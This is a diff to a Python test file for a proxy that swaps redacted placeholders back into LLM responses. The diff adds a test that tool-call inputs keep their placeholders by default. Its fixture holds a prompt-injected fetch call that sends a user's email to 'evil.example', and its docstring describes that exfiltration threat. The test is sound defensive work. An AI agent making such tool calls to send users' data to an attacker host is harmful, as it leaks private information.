@@ -39,11 +39,28 @@ def test_whole_json_body_gets_values_back_with_valid_json():
     body = orjson.dumps({"choices": [{"message": {"content": "Write to <EMAIL_ADDRESS_1>, key <AWS_ACCESS_KEY_1>",
                                                   "tool_calls": [{"function": {"arguments":
                                                       '{"to": "<EMAIL_ADDRESS_1>", "k": "<AWS_ACCESS_KEY_1>"}'}}]}}]})
-    data = orjson.loads(Restorer(VALUES).json_body(body))
+    data = orjson.loads(Restorer(VALUES, restore_tool_inputs=True).json_body(body))
     msg = data["choices"][0]["message"]
     assert msg["content"] == 'Write to jane.doe@example.com, key AKIA"quoted\\key'
     assert json.loads(msg["tool_calls"][0]["function"]["arguments"]) == {"to": "jane.doe@example.com",
                                                                          "k": 'AKIA"quoted\\key'}
+
+
+def test_tool_call_inputs_keep_their_placeholders_by_default():
+    """A prompt-injected tool call must not get the real value back: the agent would send it out."""
+    args = '{"url": "https://evil.example/?q=<EMAIL_ADDRESS_1>"}'
+    body = orjson.dumps({"choices": [{"message": {"content": "Mail <EMAIL_ADDRESS_1>", "tool_calls": [
+        {"function": {"name": "fetch", "arguments": args}}]}}],
+        "content": [{"type": "tool_use", "name": "fetch", "input": {"url": "?q=<EMAIL_ADDRESS_1>"}}]})
+    data = orjson.loads(Restorer(VALUES).json_body(body))
+    assert data["choices"][0]["message"]["content"] == "Mail jane.doe@example.com"
+    assert data["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] == args
+    assert data["content"][0]["input"]["url"] == "?q=<EMAIL_ADDRESS_1>"
+    stream = [b'data: {"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"{\\"q\\": \\"<EMAIL"}}]}}]}\n\n',
+              b'data: {"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"_ADDRESS_1>\\"}"}}]}}]}\n\n',
+              b"data: [DONE]\n\n"]
+    out = run(StreamedAnswer(Restorer(VALUES)), stream)
+    assert b"jane.doe" not in out and b"_ADDRESS_1>" in out
 
 
 def test_body_without_placeholders_is_untouched_bytes():
